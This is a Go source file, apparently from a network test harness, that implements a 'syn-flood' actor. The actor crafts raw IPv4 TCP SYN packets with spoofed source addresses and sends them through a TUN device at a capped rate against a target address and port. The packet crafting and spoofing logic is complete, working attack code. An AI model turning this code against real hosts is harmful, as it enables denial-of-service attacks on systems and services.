package actor

import (
	"context"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"time"
)

var synFlood = Actor{
	Name:  "syn-flood",
	About: "sends SYNs from forged addresses through a TUN device of the server's own namespace, and swallows the answers",
	Main: func(ctx context.Context, f *flag.FlagSet, parse func() error) error {
		at := f.String("at", "", "namespace/device/address/bits: the forged addresses are of that network")
		to := f.String("to", "", "victim, address:port")
		rate := f.Float64("rate", 100, "SYNs per second, at most 20000")
		if err := parse(); err != nil {
			return err
		}
		_, _, network, err := parseEnd(*at)
		if err != nil {
			return err
		}
		from, err := netip.ParsePrefix(network)
		if err != nil {
			return err
		}
		victim, err := netip.ParseAddrPort(*to)
		if err != nil {
			return err
		}
		if *rate <= 0 || *rate > 20_000 || !from.Addr().Is4() || !victim.Addr().Is4() || from.Bits() > 24 {
			return errors.New("--rate over 0 to 20000, --at and --to IPv4, --at a network of /24 or more")
		}
		tun, err := openTun(*at)
		if err != nil {
			return err
		}
		go func() {
			for buf := make([]byte, 2048); ; {
				if _, err := tun.Read(buf); err != nil {
					return
				}
			}
		}()
		ready()
		return flood(ctx, tun, from, victim, *rate)
	},
}

// flood sends in batches of 10 ms.
func flood(ctx context.Context, tun *os.File, from netip.Prefix, victim netip.AddrPort, rate float64) error {
	rnd := rand.New(rand.NewPCG(7, 7))
	begun, sent, told := time.Now(), 0, time.Now()
	for sleep(ctx, 10*time.Millisecond) {
		for due := int(rate * time.Since(begun).Seconds()); sent < due; sent++ {
			if _, err := tun.Write(synPacket(forged(from, rnd.Uint32()), uint16(1024+rnd.IntN(60000)), victim, rnd.Uint32())); err != nil {
				return fmt.Errorf("send a SYN: %w", err)
			}
		}
		if time.Since(told) >= time.Second {
			told = time.Now()
			fmt.Printf("sent %d SYNs\n", sent)
		}
	}
	return nil
}

// forged is an address of a network, not its first two.
func forged(network netip.Prefix, n uint32) netip.Addr {
	base := network.Masked().Addr().As4()
	size := uint32(1) << (32 - network.Bits())
	binary.BigEndian.PutUint32(base[:], binary.BigEndian.Uint32(base[:])+2+n%(size-3))
	return netip.AddrFrom4(base)
}

// synPacket is an IPv4 packet (RFC 791) with a SYN (RFC 9293) that offers an MSS.
func synPacket(from netip.Addr, port uint16, to netip.AddrPort, seq uint32) []byte {
	const ip, tcp = 20, 24
	b := make([]byte, ip+tcp)
	src, dst := from.As4(), to.Addr().As4()
	b[0], b[8], b[9] = 0x45, 64, 6
	binary.BigEndian.PutUint16(b[2:], ip+tcp)
	copy(b[12:], src[:])
	copy(b[16:], dst[:])
	binary.BigEndian.PutUint16(b[10:], checksum(b[:ip], 0))
	t := b[ip:]
	binary.BigEndian.PutUint16(t, port)
	binary.BigEndian.PutUint16(t[2:], to.Port())
	binary.BigEndian.PutUint32(t[4:], seq)
	t[12], t[13] = tcp/4<<4, 0x02
	binary.BigEndian.PutUint16(t[14:], 64240)
	copy(t[20:], []byte{2, 4, 0x05, 0xb4}) // MSS 1460
	pseudo := sum(b[12:20], 0) + 6 + tcp
	binary.BigEndian.PutUint16(t[16:], checksum(t, pseudo))
	return b
}

func sum(b []byte, start uint32) uint32 {
	for i := 0; i+1 < len(b); i += 2 {
		start += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	return start
}

// checksum is that of RFC 1071, over an even number of bytes.
func checksum(b []byte, start uint32) uint16 {
	s := sum(b, start)
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return ^uint16(s)
}
